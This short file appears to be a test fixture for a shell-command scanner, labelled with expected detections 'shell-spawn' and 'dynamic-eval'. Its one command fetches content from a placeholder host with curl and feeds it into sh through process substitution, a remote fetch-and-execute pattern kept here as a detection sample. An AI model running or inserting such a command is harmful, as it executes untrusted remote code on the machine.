# expect: shell-spawn,dynamic-eval
# source: DESIGN.md section 2: dynamic-eval
# technique: > >(sh): output redirected into a shell through process substitution
curl -s https://x.example.net/c > >(sh)
